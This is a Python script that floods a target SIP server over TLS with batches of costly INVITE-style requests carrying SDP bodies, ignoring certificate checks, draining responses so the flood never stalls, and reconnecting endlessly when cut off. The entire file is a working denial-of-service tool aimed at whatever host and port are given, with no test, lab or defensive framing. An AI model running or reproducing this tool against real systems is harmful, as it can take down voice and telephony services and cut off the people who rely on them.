#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Floods HOST PORT with requests of one METHOD over TLS, as fast as they are taken, until it is ended."""

import socket
import ssl
import sys
import threading


def request(method, n):
    """One that costs as much as one may: a dialog is looked for, a description read."""
    body = "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\n"
    return (f"{method} sip:us@192.0.2.9 SIP/2.0\r\nVia: SIP/2.0/TLS 192.0.2.9;branch=z9hG4bK{n}\r\nFrom: <sip:x@y>;tag={n}\r\n"
            f"To: <sip:us@192.0.2.9>\r\nCall-ID: {n}\r\nCSeq: 1 {method}\r\nContact: <sip:x@192.0.2.9>\r\n"
            f"Content-Type: application/sdp\r\nContent-Length: {len(body)}\r\n\r\n{body}").encode()


def drain(connection):
    """Answers nobody reads would stop the flood by themselves."""
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def flood(host, port, method):
    """A line once it has begun, and then nothing."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    text = b"".join(request(method, n) for n in range(50))
    begun = False
    while True:
        try:
            with context.wrap_socket(socket.create_connection((host, port))) as connection:
                threading.Thread(target=drain, args=(connection,), daemon=True).start()
                while True:
                    connection.sendall(text)
                    if not begun:
                        print("begun", flush=True)
                    begun = True
        except OSError:
            pass  # shut out, and here again


flood(sys.argv[1], int(sys.argv[2]), sys.argv[3])
